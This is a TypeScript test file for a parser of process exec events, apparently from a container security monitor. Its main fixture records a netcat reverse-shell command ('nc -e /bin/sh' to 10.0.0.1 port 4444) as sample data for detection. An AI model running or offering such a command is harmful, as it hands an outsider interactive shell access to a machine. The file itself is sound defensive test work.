import { describe, expect, it, vi } from 'vitest';
import { parseProcEventLine } from '../../../../src/security/sources/exec-event-parse.js';

const EXEC =
  '{"ts":17667366779430123,"pid":30941,"ppid":30722,"uid":1065536,"start":1766736,' +
  '"container":"coi-ab12cd34-1","exe":"/usr/bin/nc.traditional","argv":["nc","-e","/bin/sh","10.0.0.1","4444"]}';

describe('the lines of proc-events.pl', () => {
  it('reads an exec, keeping every digit of the nanosecond timestamp', () => {
    expect(parseProcEventLine(EXEC)).toEqual({
      kind: 'exec',
      at: 17667366779430123n,
      pid: 30941,
      ppid: 30722,
      startMs: 17667360,
      container: 'coi-ab12cd34-1',
      argv: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'],
    });
  });

  it('keeps escaped and empty arguments as they were', () => {
    const line = EXEC.replace(/"argv":\[.*\]/, '"argv":["sh","-c","echo \\"a\\\\b\\"\\u0009x",""]');
    expect(parseProcEventLine(line)).toMatchObject({
      argv: ['sh', '-c', 'echo "a\\b"\tx', ''],
    });
  });

  it('reads the links of fds 0-2 at the exec, a closed one absent; odd ones as if not sent', () => {
    const withFds = (fds: string) => EXEC.replace(/\}$/, `,"fds":${fds}}`);
    expect(parseProcEventLine(withFds('["socket:[123]","pipe:[4]",null]'))).toMatchObject({
      stdio: { 0: 'socket:[123]', 1: 'pipe:[4]' },
    });
    expect(parseProcEventLine(withFds('[null,null,null]'))).toMatchObject({ stdio: {} });
    expect(parseProcEventLine(EXEC)).toMatchObject({ stdio: undefined });
    for (const odd of ['["pipe:[4]"]', '[1,null,null]', '"pipe:[4]"'])
      expect(parseProcEventLine(withFds(odd))).toMatchObject({ kind: 'exec', stdio: undefined });
  });

  it("reads the owner of the process's /proc entry when the reader sent it", () => {
    const owned = EXEC.replace('"start":1766736,', '"start":1766736,"owner":1001000,');
    expect(parseProcEventLine(owned)).toMatchObject({ owner: 1001000 });
    expect(parseProcEventLine(EXEC)).toMatchObject({ owner: undefined });
  });

  it('reads the subscription and the note of dropped events', () => {
    expect(parseProcEventLine('{"ready":true,"filtered":true}')).toEqual({
      kind: 'ready',
      filtered: true,
    });
    expect(parseProcEventLine('{"ready":true,"filtered":false}')).toEqual({
      kind: 'ready',
      filtered: false,
    });
    expect(parseProcEventLine('{"lost":true}')).toEqual({ kind: 'lost' });
  });

  it('skips a line cut short, a field of the wrong type, or no container', () => {
    expect(parseProcEventLine(EXEC.slice(0, 60))).toBeUndefined();
    expect(parseProcEventLine('')).toBeUndefined();
    expect(parseProcEventLine(EXEC.replace('"pid":30941', '"pid":"30941"'))).toBeUndefined();
    expect(parseProcEventLine(EXEC.replace('"coi-ab12cd34-1"', '""'))).toBeUndefined();
    expect(parseProcEventLine(EXEC.replace('"argv":["nc"', '"argv":[1'))).toBeUndefined();
    expect(parseProcEventLine('null')).toBeUndefined();
  });

  it('does not try to parse the empty line after a chunk of lines (a throw each)', () => {
    const parse = vi.spyOn(JSON, 'parse');
    try {
      expect(parseProcEventLine('')).toBeUndefined();
      expect(parse).not.toHaveBeenCalled();
    } finally {
      parse.mockRestore();
    }
  });
});
